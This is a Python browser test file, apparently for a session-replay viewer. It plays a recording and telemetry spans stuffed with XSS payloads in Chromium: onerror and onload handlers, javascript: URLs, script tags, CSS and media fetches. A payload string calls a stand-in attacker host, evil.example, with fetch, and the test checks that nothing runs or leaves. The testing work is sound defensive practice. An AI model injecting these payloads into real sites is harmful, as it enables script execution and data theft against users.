"""A recording full of attacks, and spans with HTML in every field, played in Chromium: nothing runs, nothing leaves."""

from __future__ import annotations

import json
import shutil
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from opentelemetry.proto.trace.v1.trace_pb2 import Status
from playwright.sync_api import BrowserContext, Dialog, Page, Request, expect, sync_playwright

from otel_replay.model import Signal
from tests.outside.outside import Outside, running
from tests.outside.telemetry import CHAT, START, log, logs, span, traces
from tests.recording.pages import START_MS, add, element, event, mutation, snapshot, text
from tests.web.conftest import CHROMIUM_ARGS

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.feature("S6")]

SESSION, TRACE = "attacked", "ab" * 16
RUN = "parent.pwned=1;top.pwned=1;window.pwned=1;alert(1);fetch('http://evil.example/ran')"
AWAY, HOME = "http://evil.example", "/api/v1/sessions?stolen"
"""Where an attacker listens, and what a request with the visitor's cookie would be."""
HTML = f'"\'><img src={AWAY}/field onerror="{RUN}"><script>{RUN}</script><svg onload={RUN}>'
CONTEXT = {"width": 800, "height": 600}


class Trap:
    """Takes every connection that Chromium makes to any name but loopback's."""

    def __init__(self, listener: socket.socket) -> None:
        self.port = listener.getsockname()[1]
        self.sprung: list[bytes] = []
        self._listener = listener
        threading.Thread(target=self._take, daemon=True).start()

    def _take(self) -> None:
        while True:
            try:
                connection, _ = self._listener.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(0.2)
                try:
                    self.sprung.append(connection.recv(200))
                except OSError:
                    self.sprung.append(b"")


@contextmanager
def trap() -> Iterator[Trap]:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        yield Trap(listener)


def attacks(first: int, at: str) -> list[dict[str, Any]]:
    """Elements that would run a script, or ask ``at`` for something; node ids from ``first`` on."""
    ids = iter(range(first, first + 1_000))

    def one(tag: str, *children: dict[str, Any], **attributes: Any) -> dict[str, Any]:
        return element(next(ids), tag, *children, **attributes)

    def words(content: str, **fields: Any) -> dict[str, Any]:
        return {**text(next(ids), content), **fields}

    link = {name: one("link", rel=name, href=f"{at}/{name}", as_="script") for name in LINKS}
    return [
        one("script", words(RUN)),
        one("script", src=f"{at}/script.js"),
        one("img", src=f"{at}/img", srcset=f"{at}/srcset 2x", onerror=RUN, onload=RUN),
        one("img", src="data:image/png;base64,AAAA", onerror=RUN),
        one("img", rr_dataURL=f"{at}/data-url", src=f"{at}/lazy", loading="eager"),
        one("a", words("click"), href=f"javascript:{RUN}", ping=f"{at}/ping", id="bait"),
        one("svg", one("image", href=f"{at}/svg", isSVG=True), one("script", words(RUN)), onload=RUN),
        one("svg", one("use", href=f"{at}/use#x"), one("animate", onbegin=RUN, attributeName="x", dur="1s")),
        one("svg", one("foreignObject", one("iframe", src=f"{at}/foreign"))),
        one("meta", http_equiv="refresh", content=f"0;url={at}/refresh"),
        one("meta", **{"http-equiv": "refresh", "content": f"0;url={at}/refresh"}),
        one(
            "meta",
            **{"http-equiv": "Content-Security-Policy", "content": "default-src *; script-src * 'unsafe-inline'"},
        ),
        one("base", href=f"{at}/base/"),
        one("style", words(f"@import url({at}/import.css); body{{background:url({at}/css)}}", isStyle=True)),
        one(
            "style",
            _cssText=f"@font-face{{font-family:x;src:url({at}/font)}} *{{font-family:x;cursor:url({at}/cur),auto}}",
        ),
        one("div", words("x"), style=f"background:url({at}/inline);list-style:url({at}/list)"),
        one("iframe", src=f"{at}/frame", srcdoc=f"<script>{RUN}</script><img src={at}/srcdoc onerror='{RUN}'>"),
        one("iframe", src=f"javascript:{RUN}"),
        one("iframe", src=f"{at}/bare"),
        one("IFRAME", SRC=f"{at}/upper", rr_src=f"{at}/rr"),
        one("frameset", one("frame", src=f"{at}/frameset")),
        one("object", data=f"{at}/object", type="text/html"),
        one("embed", src=f"{at}/embed", type="text/html"),
        one(
            "video",
            one("track", src=f"{at}/track", default="", kind="captions"),
            src=f"{at}/video",
            poster=f"{at}/poster",
        ),
        one("audio", one("source", src=f"{at}/source"), autoplay="", preload="auto", onerror=RUN),
        one("form", one("input", autofocus="", onfocus=RUN), action=f"{at}/form", method="post"),
        one("button", words("b"), formaction=f"javascript:{RUN}", autofocus="", onfocus=RUN),
        one("details", words("d"), open="", ontoggle=RUN),
        one("canvas", width="100000", height="100000", rr_dataURL=f"{at}/canvas"),
        one("input", type="image", src=f"{at}/input"),
        one("body", onload=RUN, background=f"{at}/background"),
        one("table", background=f"{at}/table"),
        one("template", one("img", src=f"{at}/template", onerror=RUN)),
        one("x-custom", words(HTML), isCustom=True, onclick=RUN),
        *link.values(),
        words(HTML),
    ]


LINKS = (
    "stylesheet",
    "preload",
    "prefetch",
    "preconnect",
    "dns-prefetch",
    "modulepreload",
    "prerender",
    "icon",
    "manifest",
)


def adds(parent: int, node: dict[str, Any]) -> list[dict[str, Any]]:
    """As rrweb records added nodes: each on its own, without its children."""
    below = [one for child in node.get("childNodes", []) for one in adds(node["id"], child)]
    return [add(parent, {**node, "childNodes": []} if "childNodes" in node else node), *below]


def recording() -> list[dict[str, Any]]:
    """Attacks in the snapshot, in what is added later, in styles, fonts and media, at both addresses."""
    later = [*attacks(5_000, AWAY), *attacks(7_000, HOME)]
    style = element(20, "style", {**text(21, "p{color:red}"), "isStyle": True})
    shown = element(10, "p", text(11, "the page"), id="shown")
    near = [style, element(12, "video", id="v"), element(13, "iframe"), *attacks(3_000, HOME)]
    events = [
        event(4, {"href": f"javascript:{RUN}", **CONTEXT}),
        snapshot(shown, *near, *attacks(1_000, AWAY)),
        mutation(START_MS + 100, adds=[one for node in later for one in adds(3, node)]),
    ]
    changed = {
        "src": f"{AWAY}/later",
        "onerror": RUN,
        "href": f"javascript:{RUN}",
        "style": f"background:url({AWAY}/a)",
    }
    events.append(mutation(START_MS + 200, attributes=[{"id": 10, "attributes": changed}]))
    framed = {"src": f"{AWAY}/framed", "SRCDOC": f"<img src={AWAY}/framed-doc>"}
    rule = f"p{{background:url({AWAY}/rule)}}"
    for number, data in enumerate(
        [
            {"source": 8, "id": 20, "adds": [{"rule": rule, "index": 0}]},
            {"source": 8, "id": 20, "replaceSync": f"@import url({AWAY}/sync);{rule}"},
            {"source": 15, "id": 1, "styleIds": [1], "styles": [{"styleId": 1, "rules": [{"rule": rule}]}]},
            {"source": 13, "id": 20, "index": [0], "set": {"property": "background", "value": f"url({AWAY}/set)"}},
            {"source": 10, "family": "y", "fontSource": f"url({AWAY}/face)", "buffer": False},
            {"source": 7, "id": 12, "type": 0, "currentTime": 0, "src": f"{AWAY}/media"},
            {"source": 9, "id": 1_000, "type": 0, "commands": [{"property": "constructor", "args": [RUN]}]},
            {"source": 2, "type": 2, "id": 10, "x": 1, "y": 1},
            {"source": 0, "adds": [], "removes": [], "texts": [], "attributes": [{"id": 13, "attributes": framed}]},
        ]
    ):
        events.append(event(3, data, START_MS + 300 + number))
    events.append(event(5, {"tag": HTML, "payload": {"text": HTML, "trace_id": TRACE}}, START_MS + 400))
    events.append(mutation(START_MS + 500, adds=adds(3, element(30, "p", text(31, "the end"), id="end"))))
    return events


def fill(receiver: Outside) -> None:
    said = json.dumps([{"role": "user", "parts": [{"type": "text", "content": HTML}]}])
    attributes = {
        **CHAT,
        "session.id": SESSION,
        "user.id": HTML,
        "feature": HTML,
        "gen_ai.request.model": HTML,
        "gen_ai.input.messages": said,
        "gen_ai.output.messages": said,
        "gen_ai.conversation.id": HTML,
        HTML: HTML,
        "url.full": f"javascript:{RUN}",
    }
    hostile = span(TRACE, 1, name=HTML, attributes=attributes, trace_state=HTML)
    hostile.status.CopyFrom(Status(code=Status.STATUS_CODE_ERROR, message=HTML))
    hostile.events.add(name=HTML, time_unix_nano=START)
    receiver.export(Signal.TRACES, traces(hostile, service=HTML, resource={HTML: HTML}).SerializeToString())
    record = log(HTML, trace_id=TRACE, attributes={HTML: HTML, "session.id": SESSION})
    receiver.export(Signal.LOGS, logs(record).SerializeToString())
    receiver.upload(SESSION, recording())


class Watched:
    """A tab, and everything that would tell of an attack that got through."""

    def __init__(self, context: BrowserContext, url: str) -> None:
        self.tab: Page = context.new_page()
        self.url = url
        self.asked: list[str] = []
        self.dialogs: list[str] = []
        context.on("request", lambda request: self.asked.append(request.url))
        context.on("requestfailed", self._failed)
        context.on("dialog", self._dialog)

    def _dialog(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _failed(self, request: Request) -> None:
        """What the policy stops is told of as a request, too, that never left."""
        if request.failure in ("csp", "net::ERR_BLOCKED_BY_CSP"):
            self.asked.remove(request.url)

    def strange(self) -> list[str]:
        """Requests for anything but the page and its API."""
        ours = (f"{self.url}/#", f"{self.url}/assets/", f"{self.url}/api/v1/")
        return [
            one
            for one in self.asked
            if not (one.startswith(ours) or one == f"{self.url}/" or one.startswith(("data:", "blob:")))
            or "stolen" in one
        ]


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Outside, Trap, Any]]:
    database = tmp_path_factory.mktemp("attacks") / "replay.db"
    with running(database) as receiver, trap() as sprung, sync_playwright() as playwright:
        fill(receiver)
        rules = f"--host-resolver-rules=MAP evil.example 127.0.0.1:{sprung.port}"
        arguments = [*CHROMIUM_ARGS, rules]
        browser = playwright.chromium.launch(executable_path=shutil.which("chromium"), args=arguments)
        yield receiver, sprung, browser
        browser.close()


def play(attacked: tuple[Outside, Trap, Any], address: str) -> Watched:
    """Opens a view, plays to the end, and opens every entry of the timeline."""
    receiver, _, browser = attacked
    context = browser.new_context(viewport={"width": 1440, "height": 900})
    context.set_default_timeout(15_000)
    watched = Watched(context, receiver.url)
    watched.tab.goto(receiver.url + address)
    frame = watched.tab.frame_locator(".replayer-wrapper iframe")
    expect(frame.locator("#shown")).to_have_text("the page")
    watched.tab.locator(".player").focus()
    watched.tab.keyboard.press("Space")
    expect(frame.locator("#end")).to_have_text("the end")
    for number in range(watched.tab.locator("[data-entry]").count()):
        watched.tab.locator("[data-entry]").nth(number).click()
    watched.tab.wait_for_timeout(500)
    return watched


@pytest.mark.parametrize(
    "address", [f"/#/sessions/{SESSION}", f"/#/traces/{TRACE}", "/"], ids=["session", "trace", "list"]
)
def test_no_script_runs_and_no_request_leaves(attacked: tuple[Outside, Trap, Any], address: str) -> None:
    receiver, sprung, browser = attacked
    if address == "/":
        watched = Watched(browser.new_context(), receiver.url)
        watched.tab.goto(receiver.url)
        expect(watched.tab.get_by_text(SESSION)).to_be_visible()
    else:
        watched = play(attacked, address)
    assert watched.tab.evaluate("window.pwned") is None
    assert watched.dialogs == []
    assert watched.strange() == []
    assert sprung.sprung == []
    assert len(watched.tab.context.pages) == 1


def test_the_sandbox_is_exactly_that_of_no_script(attacked: tuple[Outside, Trap, Any]) -> None:
    tab = play(attacked, f"/#/sessions/{SESSION}").tab
    assert tab.locator("iframe").evaluate_all("all => all.map(one => one.getAttribute('sandbox'))") == [
        "allow-same-origin"
    ]
    inside = tab.frame_locator(".replayer-wrapper iframe")
    assert inside.locator("img").count() > 0, "the attacks are there"
    handlers = inside.locator("*").evaluate_all(
        "all => all.filter(one => one.onerror || one.onload || one.onfocus).length"
    )
    assert handlers == 0
    assert inside.locator("script").count() == 0


def test_the_trap_springs(attacked: tuple[Outside, Trap, Any], tmp_path: Path) -> None:
    """What shows that nothing left would see it leave."""
    _, sprung, browser = attacked
    page = tmp_path / "page.html"
    page.write_text(f"<link rel=preconnect href={AWAY}><img src={AWAY}/x onerror='window.pwned=1'>")
    watched = Watched(browser.new_context(), "http://127.0.0.1:9")
    watched.tab.goto(page.as_uri())
    watched.tab.wait_for_function("window.pwned === 1")
    assert f"{AWAY}/x" in watched.strange()
    assert sprung.sprung
    sprung.sprung.clear()
